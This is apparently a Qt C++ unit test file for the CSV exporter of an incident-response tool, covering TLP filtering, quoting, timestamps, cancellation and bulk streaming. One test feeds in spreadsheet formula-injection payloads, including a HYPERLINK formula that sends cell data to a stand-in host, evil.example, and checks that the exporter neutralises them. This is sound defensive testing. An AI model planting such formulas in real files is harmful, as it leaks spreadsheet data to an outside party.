#include "IncidentFixture.h"

#include "exchange/CsvExporter.h"
#include "exchange/CsvFormat.h"
#include "workspace/SqlUtil.h"

#include <QBuffer>
#include <QElapsedTimer>
#include <QRegularExpression>

using namespace csirtkit;

using Records = QList<QStringList>;

class TestCsvExporter : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase() { QStandardPaths::setTestModeEnabled(true); }
    void init();
    void cleanup() { m_fx.reset(); }
    void formulaCellsAreNeutralised();
    void headerAndChosenColumns();
    void bomOption();
    void quotingRoundTrip();
    void timesAreIsoUtc();
    void tlpCeilingLeavesOut();
    void chosenIncidentsInOrder();
    void refusesBadOptions();
    void cancelWritesNothing();
    void streamsManyIncidents();

private:
    qint64 add(const QString &title, const QString &tlp = QStringLiteral("TLP:AMBER"), const QString &summary = QString())
    {
        IncidentDraft draft;
        draft.title = title;
        draft.tlp = tlp;
        draft.summary = summary;
        auto id = IncidentRepository(*m_fx->workspace).create(draft, QStringLiteral("Aiko"));
        return id ? *id : 0;
    }
    Records exported(const CsvExporter::Options &options, ExportSummary *summary = nullptr)
    {
        QBuffer buffer;
        buffer.open(QIODevice::WriteOnly);
        auto result = CsvExporter(*m_fx->workspace).write(buffer, options);
        if (!result)
            return { { result.error().message } };
        if (summary)
            *summary = *result;
        auto records = CsvFormat::parse(buffer.data());
        return records ? *records : Records { { records.error().message } };
    }
    static QStringList column(const Records &records, const QString &title)
    {
        const qsizetype c = records.value(0).indexOf(title);
        QStringList values;
        for (qsizetype r = 1; r < records.size(); ++r)
            values << records.at(r).value(c);
        return values;
    }

    std::unique_ptr<fixtures::Incidents> m_fx;
};

void TestCsvExporter::init()
{
    m_fx = std::make_unique<fixtures::Incidents>(); // "Phishing mail to finance", "Defaced campaign site" (AMBER)
    QVERIFY(m_fx->workspace);
}

void TestCsvExporter::formulaCellsAreNeutralised()
{
    const QStringList titles = { QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")"), QStringLiteral("+1"),
                                 QStringLiteral("-2+3"), QStringLiteral("@SUM(A1)") };
    for (const QString &title : titles)
        QVERIFY(add(title));
    // Titles are trimmed when stored; tab and CR LF survive at the start of a summary (a lone CR is
    // refused as a control character).
    QVERIFY(add(QStringLiteral("Tab summary"), QStringLiteral("TLP:AMBER"), QStringLiteral("\tx")));
    QVERIFY(!add(QStringLiteral("Lone CR summary"), QStringLiteral("TLP:AMBER"), QStringLiteral("\rx")));
    QVERIFY(add(QStringLiteral("CR summary"), QStringLiteral("TLP:AMBER"), QStringLiteral("\r\nx")));

    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    QVERIFY(CsvExporter(*m_fx->workspace).write(buffer, {}).ok());
    const Records records = CsvFormat::parse(buffer.data()).value();
    QCOMPARE(records.size(), 1 + 2 + 6);
    const QStringList exportedTitles = column(records, CsvExporter::columnTitle(QStringLiteral("title")));
    QCOMPARE(exportedTitles.mid(0, 2), (QStringList { QStringLiteral("Phishing mail to finance"), QStringLiteral("Defaced campaign site") }));
    for (qsizetype i = 0; i < titles.size(); ++i)
        QCOMPARE(exportedTitles.at(2 + i), QLatin1Char('\'') + titles.at(i));
    const QStringList summaries = column(records, CsvExporter::columnTitle(QStringLiteral("summary")));
    QCOMPARE(summaries.at(6), QStringLiteral("'\tx"));
    QCOMPARE(summaries.at(7), QStringLiteral("'\r\nx"));
    // No cell anywhere in the file starts with a character a spreadsheet would run.
    for (const QStringList &record : records)
        for (const QString &cell : record)
            QVERIFY2(!CsvFormat::needsNeutralising(cell.toUtf8()), qPrintable(cell));
    QVERIFY(buffer.data().contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Details\"\")\""));
    QVERIFY(buffer.data().contains(",'+1,"));
    QVERIFY(buffer.data().contains(",'-2+3,"));
    QVERIFY(buffer.data().contains(",'@SUM(A1),"));
}

void TestCsvExporter::headerAndChosenColumns()
{
    CsvExporter::Options options;
    options.columns = { QStringLiteral("title"), QStringLiteral("ident"), QStringLiteral("title") };
    Records records = exported(options);
    QCOMPARE(records.size(), 3);
    // The TLP column is always there, first when not chosen; duplicates are dropped.
    QCOMPARE(records.at(0), (QStringList { QStringLiteral("TLP"), QStringLiteral("Title"), QStringLiteral("ID") }));
    QCOMPARE(records.at(1), (QStringList { QStringLiteral("TLP:AMBER"), QStringLiteral("Phishing mail to finance"),
                                           IncidentRepository(*m_fx->workspace).incident(m_fx->first)->ident }));
    options.header = CsvExporter::Header::Keys;
    QCOMPARE(exported(options).at(0), (QStringList { QStringLiteral("tlp"), QStringLiteral("title"), QStringLiteral("ident") }));
    options.columns.clear();
    QCOMPARE(exported(options).at(0), CsvExporter::columnKeys());
    QCOMPARE(CsvExporter::columnKeys().size(), 29);
    for (const QString &key : CsvExporter::columnKeys())
        QVERIFY2(!CsvExporter::columnTitle(key).isEmpty(), qPrintable(key));
    QVERIFY(CsvExporter::columnTitle(QStringLiteral("nonsense")).isEmpty());
}

void TestCsvExporter::bomOption()
{
    CsvExporter::Options options;
    QBuffer plain;
    plain.open(QIODevice::WriteOnly);
    QVERIFY(CsvExporter(*m_fx->workspace).write(plain, options).ok());
    QVERIFY(plain.data().startsWith("ID,Title,"));
    options.bom = true;
    options.delimiter = ';';
    QBuffer withBom;
    withBom.open(QIODevice::WriteOnly);
    QVERIFY(CsvExporter(*m_fx->workspace).write(withBom, options).ok());
    QVERIFY(withBom.data().startsWith("\xEF\xBB\xBF" "ID;Title;"));
    QVERIFY(withBom.data().endsWith("\r\n"));
    auto text = CsvFormat::decode(withBom.data());
    QVERIFY(text.ok());
    QVERIFY(text->bom);
    QCOMPARE(text->delimiter, ';');
}

void TestCsvExporter::quotingRoundTrip()
{
    const QString summary = QStringLiteral("He said \"click here\", then:\nline two; 経理部の\r\n三行目");
    const qint64 id = add(QStringLiteral("Quotes, commas and \"marks\""), QStringLiteral("TLP:GREEN"), summary);
    QVERIFY(IncidentRepository(*m_fx->workspace).setText(id, IncidentRepository::TextField::Lessons, QStringLiteral("Train,\n\"all\"")).ok());
    CsvExporter::Options options;
    options.scope.incidentIds = { id };
    options.columns = { QStringLiteral("title"), QStringLiteral("summary"), QStringLiteral("lessons") };
    const Records records = exported(options);
    QCOMPARE(records.size(), 2);
    QCOMPARE(records.at(1), (QStringList { QStringLiteral("TLP:GREEN"), QStringLiteral("Quotes, commas and \"marks\""), summary,
                                           QStringLiteral("Train,\n\"all\"") }));
}

void TestCsvExporter::timesAreIsoUtc()
{
    IncidentRepository repo(*m_fx->workspace);
    const QDateTime tokyo(QDate(2026, 3, 1), QTime(18, 30), QTimeZone("Asia/Tokyo"));
    QVERIFY(repo.setTime(m_fx->first, IncidentRepository::TimeField::Occurred, tokyo).ok());
    CsvExporter::Options options;
    options.scope.incidentIds = { m_fx->first };
    options.header = CsvExporter::Header::Keys;
    options.values = CsvExporter::Values::Keys;
    const Records records = exported(options);
    QCOMPARE(column(records, QStringLiteral("occurred")), QStringList { QStringLiteral("2026-03-01T09:30:00Z") });
    QCOMPARE(column(records, QStringLiteral("detected")), QStringList { QString() });
    static const QRegularExpression iso(QStringLiteral("^\\d{4}-\\d{2}-\\d{2}T\\d{2}:\\d{2}:\\d{2}Z$"));
    for (const QString &key : { QStringLiteral("reported"), QStringLiteral("created"), QStringLiteral("updated") })
        QVERIFY2(iso.match(column(records, key).value(0)).hasMatch(), qPrintable(column(records, key).value(0)));
    QCOMPARE(column(records, QStringLiteral("status")), QStringList { QStringLiteral("new") });
    QCOMPARE(column(records, QStringLiteral("priority")), QStringList { QStringLiteral("P3") });
}

void TestCsvExporter::tlpCeilingLeavesOut()
{
    const qint64 red = add(QStringLiteral("Ransomware at the plant"), QStringLiteral("TLP:RED"));
    const qint64 strict = add(QStringLiteral("Board member account"), QStringLiteral("TLP:AMBER+STRICT"));
    add(QStringLiteral("Scan from a known range"), QStringLiteral("TLP:GREEN"));
    add(QStringLiteral("Public advisory"), QStringLiteral("TLP:CLEAR"));
    IncidentRepository repo(*m_fx->workspace);

    CsvExporter::Options options;
    options.scope.tlpCeiling = QStringLiteral("TLP:AMBER");
    options.columns = { QStringLiteral("title") };
    ExportSummary summary;
    Records records = exported(options, &summary);
    QCOMPARE(summary.incidents, 4);
    QCOMPARE(column(records, QStringLiteral("TLP")), (QStringList { QStringLiteral("TLP:AMBER"), QStringLiteral("TLP:AMBER"),
                                                                   QStringLiteral("TLP:GREEN"), QStringLiteral("TLP:CLEAR") }));
    QCOMPARE(summary.omitted.size(), 2);
    QVERIFY(summary.omitted.at(0).contains(repo.incident(red)->ident));
    QVERIFY(summary.omitted.at(0).contains(QStringLiteral("TLP:RED")));
    QVERIFY(summary.omitted.at(0).contains(QStringLiteral("TLP:AMBER ceiling")));
    QVERIFY(summary.omitted.at(1).contains(repo.incident(strict)->ident));
    for (const QStringList &record : records)
        QVERIFY(!record.contains(QStringLiteral("Ransomware at the plant")));

    options.scope.tlpCeiling = QStringLiteral("TLP:CLEAR");
    records = exported(options, &summary);
    QCOMPARE(column(records, QStringLiteral("Title")), QStringList { QStringLiteral("Public advisory") });
    QCOMPARE(summary.omitted.size(), 5);

    options.scope.tlpCeiling.clear(); // no ceiling: everything
    records = exported(options, &summary);
    QCOMPARE(summary.incidents, 6);
    QVERIFY(summary.omitted.isEmpty());
}

void TestCsvExporter::chosenIncidentsInOrder()
{
    CsvExporter::Options options;
    options.scope.incidentIds = { m_fx->second, m_fx->first, 99999, m_fx->second };
    options.columns = { QStringLiteral("title") };
    ExportSummary summary;
    const Records records = exported(options, &summary);
    QCOMPARE(column(records, QStringLiteral("Title")),
             (QStringList { QStringLiteral("Defaced campaign site"), QStringLiteral("Phishing mail to finance") }));
    QCOMPARE(summary.incidents, 2);
    QCOMPARE(summary.omitted, QStringList { QStringLiteral("Incident #99999 no longer exists: left out.") });
}

void TestCsvExporter::refusesBadOptions()
{
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    CsvExporter exporter(*m_fx->workspace);
    CsvExporter::Options options;
    options.columns = { QStringLiteral("title"), QStringLiteral("password") };
    auto unknown = exporter.write(buffer, options);
    QVERIFY(!unknown.ok());
    QVERIFY(unknown.error().message.contains(QStringLiteral("“password” is not a CSV column")));
    options.columns.clear();
    options.scope.tlpCeiling = QStringLiteral("TLP:PURPLE");
    auto ceiling = exporter.write(buffer, options);
    QVERIFY(!ceiling.ok());
    QVERIFY(ceiling.error().message.contains(QStringLiteral("TLP:PURPLE")));
    options.scope.tlpCeiling.clear();
    options.delimiter = '|';
    QVERIFY(!exporter.write(buffer, options).ok());
    QCOMPARE(buffer.size(), 0);
}

void TestCsvExporter::cancelWritesNothing()
{
    const QString path = m_fx->dir->filePath(QStringLiteral("incidents.csv"));
    CsvExporter exporter(*m_fx->workspace);
    QList<std::pair<qint64, qint64>> calls;
    auto cancelled = exporter.exportTo(path, {}, [&](qint64 done, qint64 total) {
        calls.append({ done, total });
        return false;
    });
    QVERIFY(!cancelled.ok());
    QVERIFY(cancelled.error().message.contains(QStringLiteral("cancelled")));
    QVERIFY(!QFile::exists(path));
    QCOMPARE(calls, (QList<std::pair<qint64, qint64>> { { 2, 2 } }));

    { // an existing file is left as it was
        QFile old(path);
        QVERIFY(old.open(QIODevice::WriteOnly));
        old.write("previous export\n");
    }
    QVERIFY(!exporter.exportTo(path, {}, [](qint64, qint64) { return false; }).ok());
    QCOMPARE(fixtures::sha256(path), QCryptographicHash::hash("previous export\n", QCryptographicHash::Sha256).toHex());

    auto done = exporter.exportTo(path, {}, [](qint64, qint64) { return true; });
    QVERIFY(done.ok());
    QCOMPARE(done->incidents, 2);
    QFile written(path);
    QVERIFY(written.open(QIODevice::ReadOnly));
    QVERIFY(written.readAll().contains("Phishing mail to finance"));

    auto badPath = exporter.exportTo(m_fx->dir->filePath(QStringLiteral("missing/folder/x.csv")), {});
    QVERIFY(!badPath.ok());
    QCOMPARE(badPath.error().code, ErrorCode::NotFound); // said before anything is written
    QVERIFY(badPath.error().message.contains(QStringLiteral("folder")));
}

void TestCsvExporter::streamsManyIncidents()
{
    constexpr int Count = 20000;
    QVERIFY(m_fx->workspace->write({}, {}, [](QSqlDatabase &db) {
        return sql::ok(sql::exec(db, QStringLiteral(
            "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n WHERE x < 20000) "
            "INSERT INTO incident (ident, title, summary, priority, tlp, occurred_utc, created_utc, updated_utc) "
            "SELECT printf('BULK-%05d', x), 'Bulk incident ' || x, 'Line one' || char(10) || 'line \"two\", three', 'P3', "
            "CASE WHEN x % 10 = 0 THEN 'TLP:RED' ELSE 'TLP:GREEN' END, '2026-02-01T10:00:00.000Z', "
            "'2026-02-01T10:00:00.000Z', '2026-02-01T10:00:00.000Z' FROM n")));
    }).ok());
    CsvExporter::Options options;
    options.scope.tlpCeiling = QStringLiteral("TLP:AMBER");
    int calls = 0;
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    QElapsedTimer timer;
    timer.start();
    auto summary = CsvExporter(*m_fx->workspace).write(buffer, options, [&](qint64 done, qint64 total) {
        ++calls;
        return done <= total && total == Count + 2;
    });
    qInfo("csv export of %d incidents: %lld ms", Count + 2, timer.elapsed());
    QVERIFY(summary.ok());
    QCOMPARE(summary->incidents, 2 + Count - Count / 10);
    QCOMPARE(summary->omitted.size(), Count / 10);
    QCOMPARE(calls, Count / 1000 + 1);
    const Records records = CsvFormat::parse(buffer.data()).value();
    QCOMPARE(records.size(), 1 + summary->incidents);
    QCOMPARE(records.last().at(1), QStringLiteral("Bulk incident %1").arg(Count - 1));
    QCOMPARE(records.last().at(24), QStringLiteral("Line one\nline \"two\", three"));
    QCOMPARE(records.last().at(15), QStringLiteral("2026-02-01T10:00:00Z"));
}

QTEST_GUILESS_MAIN(TestCsvExporter)
#include "tst_csvexporter.moc"
